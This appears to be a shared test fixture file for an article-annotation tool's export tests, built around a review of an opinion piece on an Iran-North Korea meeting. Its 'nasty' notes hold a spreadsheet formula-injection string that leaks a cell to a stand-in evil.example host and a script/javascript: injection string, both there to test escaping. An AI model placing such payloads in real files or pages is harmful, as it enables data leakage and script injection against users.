// Shared fixtures for the export tests: the sample article with a review covering every
// annotation kind (and notes written to break naive exporters), and a small article full of
// emoji and CRLF line ends.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createAnnotation, emptySidecar, textHash } from '../../../src/core/annotations';
import { analyze } from '../../../src/core/analysis/analyze';
import { buildExportInput } from '../../../src/core/export';
import type { Analysis, Annotation, Sidecar } from '../../../src/core/model';
import { REPO, locate, sampleText } from '../annotations/fixtures';

export { REPO, locate, sampleText };
export const EXPORT_FIXTURES = join(REPO, 'test/fixtures/export');
export const NOW = '2025-03-04T12:00:00.000Z';
export const GENERATOR = { name: 'Policy Lens', version: '0.1.0' };

export const emojiText = (): string => readFileSync(join(EXPORT_FIXTURES, 'emoji-article.txt'), 'utf8');

/** Notes that break exporters that do not escape or quote. */
export const NASTY = {
  formula: '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
  minus: '-2+3 looks like a formula too',
  script: 'See <script>alert("x")</script> and [a link](javascript:alert(1)) **now** & then',
  multiline: 'Line one, with a comma\nLine "two" with quotes\r\n\n1. not a list\n# not a heading\n> not a quote',
  unicode: 'Pyongyang’s envoy 👋 met Tehran’s — naïve façade 日本語',
};

let counter = 0;
const nextId = () => `t${String(++counter).padStart(4, '0')}-fixture`;

export function annotate(text: string, words: string, fields: Partial<Annotation> & { kind: Annotation['kind'] }, occurrence = 0): Annotation {
  const { kind, label, verdict, note, tags, origin, creator } = fields;
  return createAnnotation(
    { text, range: locate(text, words, occurrence), kind, creator: creator ?? 'Ada Reviewer', label, verdict, note, tags, origin },
    fields.modified ?? NOW,
    nextId,
  );
}

export function sidecarOf(text: string, annotations: Annotation[], article = 'samples/iran-north-korea-meeting.txt'): Sidecar {
  return { ...emptySidecar(article, textHash(text)), annotations };
}

/** The sample article reviewed with one annotation of each kind plus the nasty notes. */
export function sampleReview(): { text: string; annotations: Annotation[] } {
  const text = sampleText();
  const annotations = [
    annotate(text, 'three provocative statements did result from the meetings', {
      kind: 'claim-review', verdict: 'Partly supported', label: { claimType: 'factual' }, note: NASTY.script, tags: ['sanctions', 'iran, dprk'],
    }),
    annotate(text, 'Tehran is one of Pyongyang’s best customers of ballistic missile materials', {
      kind: 'claim-review', verdict: 'Unverifiable', label: { claimType: 'statistical' }, note: NASTY.multiline, creator: 'Ben Checker',
    }),
    annotate(text, 'Ri Yong-ho', { kind: 'entity-correction', label: { entityType: 'person', canonical: 'Ri Yong Ho' }, note: NASTY.formula, origin: 'suggestion' }),
    annotate(text, 'It is unknown if the meetings were planned', { kind: 'note', note: NASTY.minus, tags: ['@follow-up'] }),
    annotate(text, 'the ultimate rogue nuclear regime', { kind: 'rejected-suggestion', label: { claimType: 'opinion' }, note: NASTY.unicode }),
  ];
  return { text, annotations };
}

let sampleAnalysis: Analysis | undefined;
/** The real analysis of the sample (computed once). */
export function analysisOfSample(): Analysis {
  return (sampleAnalysis ??= analyze(sampleText(), { format: 'plaintext' }));
}

export function sampleInput(options: { analysis?: boolean; includeDetections?: boolean; extra?: Annotation[] } = {}) {
  const { text, annotations } = sampleReview();
  return buildExportInput({
    articleText: text,
    sidecar: { ...sidecarOf(text, [...annotations, ...(options.extra ?? [])]), metadata: { title: 'Iran-North Korea meeting — A message for the US?', url: 'https://thehill.com/opinion/national-security/401823', author: 'David Maxwell', date: '2018-08-14' } },
    ...(options.analysis ? { analysis: analysisOfSample() } : {}),
    generator: GENERATOR,
    includeDetections: options.includeDetections,
  });
}
